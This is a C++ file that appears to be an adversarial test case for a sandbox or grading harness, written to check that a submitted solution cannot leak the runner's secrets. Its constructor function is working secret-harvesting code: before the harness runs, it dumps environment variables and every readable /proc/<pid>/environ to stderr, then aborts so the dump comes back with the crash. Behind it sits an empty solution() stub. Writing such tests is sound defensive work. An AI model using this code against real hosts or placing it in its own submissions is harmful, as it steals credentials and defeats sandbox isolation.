// Class: host_access
// §6: reading secrets, environment, other jobs' files or the parent's /proc; network; sitecustomize.py or cache
//     poisoning; compile-time #include or .incbin of host files
// Attack: native code reading secrets before any harness code runs: a library constructor dumps its environment,
// /proc/self, /proc/1 and its parent's /proc/<ppid>/environ, and every other /proc/<pid>/environ it can open, to
// stderr, then aborts, so the dump comes back with the crash. The runner's sentinel secret must appear nowhere.
#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include <dirent.h>
#include <unistd.h>

extern char** environ;

static void dump_file(const char* path) {
    FILE* fh = std::fopen(path, "rb");
    if (fh == nullptr) {
        std::fprintf(stderr, "%s: unreadable\n", path);
        return;
    }
    std::fprintf(stderr, "%s:\n", path);
    int ch;
    while ((ch = std::fgetc(fh)) != EOF) std::fputc(ch == 0 ? '\n' : ch, stderr);
    std::fclose(fh);
}

__attribute__((constructor)) static void dump_secrets() {
    std::fprintf(stderr, "ENVIRON:\n");
    for (char** variable = environ; variable != nullptr && *variable != nullptr; ++variable) {
        std::fprintf(stderr, "%s\n", *variable);
    }
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    dump_file("/proc/self/environ");
    dump_file("/proc/1/environ");
    dump_file(path);
    DIR* proc = opendir("/proc");
    if (proc != nullptr) {
        while (dirent* entry = readdir(proc)) {
            if (!std::isdigit(static_cast<unsigned char>(entry->d_name[0]))) continue;
            std::snprintf(path, sizeof path, "/proc/%.32s/environ", entry->d_name);
            dump_file(path);
        }
        closedir(proc);
    }
    std::fflush(stderr);
    std::abort();
}

extern "C" void solution(const float* input_a, const float* input_b, float* output_c, size_t n) {}
